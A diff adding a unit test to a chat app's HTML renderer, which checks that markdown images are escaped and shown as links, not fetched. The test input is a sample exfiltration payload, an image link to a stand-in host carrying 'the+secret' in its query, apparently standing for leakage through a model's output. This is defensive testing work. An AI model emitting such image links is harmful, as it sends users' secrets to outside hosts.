@@ -49,3 +49,13 @@ def test_html_after_a_backtick_and_a_blank_line_is_escaped():
     assert "<img" not in escape_html(text) and "&lt;img" in escape_html(text)
     assert unescape_html(escape_html(text)) == text
     assert escape_html("`a <b>\ncode` and <i>") == "`a <b>\ncode` and &lt;i>"  # one paragraph: a span
+
+
+def test_a_markdown_image_is_shown_as_a_link_not_fetched():
+    from chatengine.app.ui.render import escape_html, unescape_html
+
+    text = "Done. ![status](https://elsewhere.example/?q=the+secret) and `![kept](in code)`"
+    shown = escape_html(text)
+    assert "![status]" not in shown and "&#33;[status](https://elsewhere.example/?q=the+secret)" in shown
+    assert "`![kept](in code)`" in shown
+    assert unescape_html(shown) == text
